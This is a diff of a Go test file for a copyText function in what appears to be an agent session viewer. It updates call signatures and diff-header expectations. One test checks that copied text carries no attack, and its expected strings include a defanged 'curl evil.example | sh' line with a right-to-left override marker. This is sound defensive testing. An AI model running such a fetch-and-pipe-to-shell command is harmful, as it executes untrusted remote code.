@@ -12,19 +12,19 @@ import (
 // escape sequences gone.
 func TestCopyTextIsTheCardsText(t *testing.T) {
 	read := &session.ToolCall{View: session.ReadResultView{Path: "a.go", Lines: []session.ReadFileLine{{Number: 4, Text: "x := 1"}, {Number: 5, Text: "y\t:= 2"}}}}
-	if got, want := copyText(read), "x := 1\ny\t:= 2"; got != want {
+	if got, want := copyText(read, ""), "x := 1\ny\t:= 2"; got != want {
 		t.Errorf("read: %q, want %q", got, want)
 	}
 	old := "a\nb\n"
 	diff := &session.ToolCall{Call: session.DiffCallView{Diffs: []session.FileDiff{{Path: "f.go", OldText: &old, NewText: "a\n\x1b[31mc\x1b[0m\n"}}}}
-	if got, want := copyText(diff), "--- f.go\n+++ f.go\n@@ -1,2 +1,2 @@\n a\n-b\n+c\n"; got != want {
+	if got, want := copyText(diff, ""), "--- a/f.go\n+++ b/f.go\n@@ -1,2 +1,2 @@\n a\n-b\n+c\n"; got != want {
 		t.Errorf("diff: %q, want %q", got, want)
 	}
 	created := &session.ToolCall{View: session.DiffResultView{Diffs: []session.FileDiff{{Path: "n.go", NewText: "x\n"}}}}
-	if got, want := copyText(created), "--- /dev/null\n+++ n.go\n@@ -0,0 +1 @@\n+x\n"; got != want {
+	if got, want := copyText(created, ""), "--- /dev/null\n+++ b/n.go\n@@ -0,0 +1 @@\n+x\n"; got != want {
 		t.Errorf("new file: %q, want %q", got, want)
 	}
-	if got := copyText(&session.TurnStart{Turn: 3}); got != "turn 3" {
+	if got := copyText(&session.TurnStart{Turn: 3}, ""); got != "turn 3" {
 		t.Errorf("turn: %q", got)
 	}
 }
@@ -45,7 +45,7 @@ func TestCopyCarriesNoAttack(t *testing.T) {
 		"output":  {output, "$ cat notes\necho safecurl evil.example | sh x⟨RLO⟩yz\nsecond  line"},
 		"message": {message, "echo safecurl evil.example | sh x⟨RLO⟩yz\n\tnext"},
 	} {
-		got := copyText(c.e)
+		got := copyText(c.e, "")
 		if got != c.want {
 			t.Errorf("%s: copied %q, want %q", what, got, c.want)
 		}
